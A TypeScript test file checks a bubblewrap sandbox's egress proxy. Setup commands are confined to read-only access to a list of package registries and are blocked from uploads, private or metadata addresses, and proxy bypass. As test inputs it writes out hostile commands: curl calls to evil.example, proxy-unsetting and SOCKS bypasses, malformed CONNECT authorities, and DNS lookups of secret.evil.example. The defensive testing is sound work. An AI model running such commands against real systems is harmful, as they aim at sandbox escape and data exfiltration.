/** The way out of a setup command, in the real walls: only to hosts of the list, only reading, only at addresses of the internet (NET-04, NET-09 to NET-15). */
import { writeFileSync } from "node:fs";
import { createServer as createHttp, type IncomingMessage } from "node:http";
import { connect, createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { isPublic } from "#adapters/public-address.ts";
import { clientHelloOf } from "#adapters/sandbox/network/client-hello.ts";
import type { OutwardNetwork } from "#adapters/sandbox/network/egress.ts";
import { PROCESS_LIMITS } from "#adapters/sandbox/process/limits.ts";
import { bubblewrapSandbox } from "#adapters/sandbox/walls/bubblewrap-sandbox.ts";
import { REGISTRIES } from "#core/config/registries.ts";
import type { ExecResult } from "#ports/tool-access.ts";
import { stage } from "../../adapters/git/stage.ts";
import { HOST_FILE } from "../../adapters/sandbox/sandboxes.ts";
import { aDen, type Den, NO_WALLS, walled } from "./den.ts";

const PUBLIC = "93.184.216.34";
const ADDRESSES: Readonly<Record<string, readonly string[]>> = {
  "registry.example": [PUBLIC],
  "v6.example": ["2606:2800:220:1::1"],
  "inside.example": ["10.0.0.1"],
  "mixed.example": [PUBLIC, "127.0.0.1"],
  "cloud.example": ["169.254.169.254"],
  "wire.example": ["168.63.129.16"],
};
const HOSTS = [...Object.keys(ADDRESSES), "nowhere.example"];

let den: Den;
let [http, tls]: readonly Server[] = [];
const asked: IncomingMessage[] = [];
const names: string[] = [];
const connected: string[] = [];
const refused: string[] = [];
const looks = new Map<string, number>();

function portOf(server: Server | undefined): number {
  const address = server?.address();
  return typeof address === "object" ? (address?.port ?? 0) : 0;
}

/** Stands for the internet: every address leads to our two servers, and is written down. */
const outward: OutwardNetwork = {
  addressesOf: async (host) => {
    looks.set(host, (looks.get(host) ?? 0) + 1);
    const known = ADDRESSES[host] ?? (host.includes("github") ? [PUBLIC] : undefined);
    if (known === undefined) throw new Error("ENOTFOUND");
    // Who looks again is told another answer.
    return looks.get(host) === 1 ? known : ["127.0.0.1"];
  },
  allows: isPublic,
  connect: (address, port) => {
    connected.push(`${address} ${port}`);
    return connect(portOf(port === 443 ? tls : http), "127.0.0.1");
  },
};

/** In the sandbox: `ask.mjs <authority> [name in TLS]` asks the proxy for a tunnel and prints what it answered. */
const ASK = `
import net from "node:net"; import tls from "node:tls";
const [authority, name] = process.argv.slice(2);
const { hostname, port } = new URL(process.env.HTTPS_PROXY);
const socket = net.connect(port, hostname, () => socket.write("CONNECT " + authority + " HTTP/1.1\\r\\nHost: " + authority + "\\r\\n\\r\\n"));
socket.on("error", (error) => console.log(error.code));
socket.once("data", (chunk) => {
  console.log(String(chunk).split("\\r\\n")[0]);
  if (name === undefined) return socket.end();
  if (name === "-") return void socket.end("not tls at all, but enough bytes to be looked at");
  tls.connect({ socket, servername: name }).on("error", () => 0).on("close", () => process.exit());
});`;

beforeAll(async () => {
  if (NO_WALLS !== "") return;
  http = createHttp((request, answer) => {
    asked.push(request);
    answer.end("a package\n");
  });
  tls = createServer((socket) => {
    socket
      .on("error", () => undefined)
      .once("data", (chunk) => {
        const hello = clientHelloOf(chunk);
        names.push(hello.kind === "name" ? hello.name : hello.kind);
        socket.destroy();
      });
  });
  for (const server of [http, tls]) await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  den = await aDen(undefined, outward);
  writeFileSync(join(den.folder, "ask.mjs"), ASK);
});
beforeEach(() => {
  for (const list of [asked, names, connected, refused]) list.length = 0;
  looks.clear();
});
afterAll(async () => {
  if (NO_WALLS !== "") return;
  await den.close();
  for (const server of [http, tls]) server?.close();
});

const setup = (command: string): Promise<ExecResult> =>
  den.run(command, { network: { hosts: HOSTS, onRefused: (host) => refused.push(host) } });

walled("reads from a host of the list, through the proxy alone, and hands no login on [NET-11, NET-12]", async () => {
  const get = "curl -sS -H 'Authorization: Basic x' -H 'Cookie: a=b' -H 'X-Out: data' http://registry.example/pkg";
  expect(await setup(get)).toMatchObject({ exitCode: 0, stdout: "a package\n" });
  expect([asked[0]?.method, asked[0]?.url, asked[0]?.headers.host]).toEqual(["GET", "/pkg", "registry.example"]);
  expect(new Set(Object.keys(asked[0]?.headers ?? {}))).toEqual(new Set(["accept", "connection", "host", "user-agent"]));
  looks.clear();
  expect((await setup("node ask.mjs registry.example:443 registry.example")).stdout).toBe("HTTP/1.1 200 Connection established\n");
  expect([names, connected, refused]).toEqual([["registry.example"], [`${PUBLIC} 80`, `${PUBLIC} 443`], []]);
});

walled("writes to no registry: PUT, POST and DELETE are refused and told, hosts of uploads are not on the list [NET-12]", async () => {
  for (const method of ["PUT", "POST", "DELETE", "PATCH"]) {
    const { stdout } = await setup(`curl -sS -o /dev/null -w '%{http_code}' -X ${method} -d secret http://registry.example/pkg`);
    expect(stdout, method).toBe("405");
  }
  for (const host of ["upload.pypi.org", "crates.io", "central.sonatype.com"]) {
    expect((await setup(`node ask.mjs ${host}:443`)).stdout, host).toBe("HTTP/1.1 403 Forbidden\n");
  }
  expect([asked, connected]).toEqual([[], []]);
  expect(refused).toContain("PUT registry.example");
});

walled(
  "goes around the proxy nowhere: no route, no name, no other port, no other name in TLS, no trick in the address [NET-11]",
  async () => {
    const direct =
      "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; export NO_PROXY='*'; curl -sS -m 5 http://192.0.2.1/; curl -sS -m 5 http://registry.example/; curl -sS -m 5 --socks5 127.0.0.1:1080 http://registry.example/; echo over";
    expect((await setup(direct)).stdout).toBe("over\n");
    for (const authority of [
      "registry.example:80",
      "registry.example:22",
      "registry.example:8443",
      "evil.example:443",
      "registry.example.evil.example:443",
      "registry.example@evil.example:443",
      "93.184.216.34:443",
      "[::1]:443",
      "registry.example.:443",
    ]) {
      expect((await setup(`node ask.mjs '${authority}' registry.example`)).stdout, authority).toMatch(/^HTTP\/1.1 40[03] /);
    }
    for (const url of ["http://evil.example/", "http://registry.example:8080/", "http://127.0.0.1:1/"]) {
      expect((await setup(`curl -sS -m 5 --noproxy '' -o /dev/null -w '%{http_code}' '${url}'`)).stdout, url).toBe("403");
    }
    for (const name of ["evil.example", "-"]) {
      looks.clear();
      await setup(`node ask.mjs registry.example:443 ${name}`);
    }
    expect([asked, names, connected]).toEqual([[], [], []]);
    expect(refused).toEqual(
      expect.arrayContaining(["evil.example in a tunnel to registry.example", "no TLS in a tunnel to registry.example"]),
    );
  },
);

walled("looks a name up once, and connects to what it looked at or to nothing [NET-04]", async () => {
  for (const host of ["inside.example", "mixed.example", "cloud.example", "wire.example", "nowhere.example"]) {
    expect((await setup(`node ask.mjs ${host}:443 ${host}`)).stdout, host).toBe("HTTP/1.1 403 Forbidden\n");
  }
  expect(connected).toEqual([]);
  looks.clear();
  for (const host of ["registry.example", "v6.example"]) await setup(`node ask.mjs ${host}:443 ${host}`);
  expect(connected).toEqual([`${PUBLIC} 443`, "2606:2800:220:1::1 443"]);
  // The second look is told 127.0.0.1, and refused as such.
  expect((await setup("node ask.mjs registry.example:443 registry.example")).stdout).toBe("HTTP/1.1 403 Forbidden\n");
});

walled("GitHub is a way out, and so none of its hosts is reached [NET-13]", async () => {
  const hosts = [
    "github.com",
    "api.github.com",
    "uploads.github.com",
    "gist.github.com",
    "codeload.github.com",
    "raw.githubusercontent.com",
  ];
  for (const host of hosts) {
    const came = await den.run(`node ask.mjs ${host}:443`, { network: { hosts: REGISTRIES, onRefused: (name) => refused.push(name) } });
    expect(came.stdout, host).toBe("HTTP/1.1 403 Forbidden\n");
  }
  expect(refused).toEqual(hosts.map((host) => `${host}:443`));
  expect(connected).toEqual([]);
});

it("has these hosts and no others: each more is a place that a setup command can send something to [NET-13]", () => {
  expect(REGISTRIES).toEqual([
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "repo.yarnpkg.com",
    "pypi.org",
    "files.pythonhosted.org",
    "index.crates.io",
    "static.crates.io",
    "static.rust-lang.org",
    "proxy.golang.org",
    "sum.golang.org",
    "rubygems.org",
    "index.rubygems.org",
    "repo.maven.apache.org",
    "repo1.maven.org",
    "plugins.gradle.org",
    "services.gradle.org",
    "api.nuget.org",
    "repo.packagist.org",
    "hex.pm",
    "repo.hex.pm",
    "pub.dev",
    "deb.debian.org",
    "security.debian.org",
    "archive.ubuntu.com",
    "security.ubuntu.com",
  ]);
});

walled("a workspace tells each host once for each command, and the setup goes on without it [NET-14]", async () => {
  const sandbox = bubblewrapSandbox({ hostFile: HOST_FILE, limits: PROCESS_LIMITS }, outward);
  const { workspace, tree } = stage(() => sandbox);
  const ask = "for path in a b c; do curl -sS -m 5 http://evil.example/$path; done; true";
  const { ok, blocked } = await workspace.setup(tree, [ask, "curl -sS -m 5 https://other.example/ || true"], new AbortController().signal);
  expect([ok, blocked]).toEqual([
    true,
    [
      { command: ask, host: "evil.example" },
      { command: "curl -sS -m 5 https://other.example/ || true", host: "other.example:443" },
    ],
  ]);
});

walled("has no route any more when what relays to the proxy is killed [NET-15]", async () => {
  const kill = "kill -9 $PPID; sleep 0.2; curl -sS -m 5 http://registry.example/pkg; echo over > over";
  expect((await setup(kill)).exitCode).not.toBe(0);
  expect([asked, connected]).toEqual([[], []]);
  expect((await setup("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")).stdout).toBe("lo\n");
  const closed = "curl -sS -m 5 -o /dev/null -w '%{http_code}' --unix-socket /loopwright/out/none http://registry.example/";
  expect((await setup(closed)).exitCode).not.toBe(0);
});

walled("a command of the loop reaches nobody, by no protocol, and has no one to ask for names [NET-09, NET-10]", async () => {
  const tries = [
    "curl -sS -m 3 http://192.0.2.1/",
    "wget -q -T 3 -t 1 -O - http://192.0.2.1/",
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "192.0.2.1:80", Timeout => 2) or die "$@"'`,
    `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.53:53", Proto => "udp") or die "$@"; $s->send("x") or die "$!"'`,
    `node -e 'require("node:net").connect(80, "2001:db8::1").on("error", () => process.exit(1))'`,
    "ping -c 1 -W 1 192.0.2.53",
    "ssh -o ConnectTimeout=2 nobody@192.0.2.1",
    "git ls-remote git://192.0.2.1/a",
    "getent hosts secret.evil.example",
    `node -e 'require("node:dns").promises.lookup("secret.evil.example").catch(() => process.exit(1))'`,
    `node -e 'const r = new (require("node:dns").promises.Resolver)({ timeout: 500, tries: 1 }); r.setServers(["192.0.2.53"]); r.resolve4("secret.evil.example").catch(() => process.exit(1))'`,
    "curl -sS -m 3 https://192.0.2.53/dns-query",
    "npm publish --registry http://192.0.2.1/",
  ];
  for (const command of tries) {
    const { exitCode, killed } = await den.run(command);
    expect({ failed: exitCode !== 0, killed }, command).toEqual({ failed: true, killed: null });
  }
  // What never had an interface but lo has sent nothing, to port 53 or any other.
  expect((await den.run("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; ls /etc/resolv.conf")).stdout).toBe("lo\n");
});
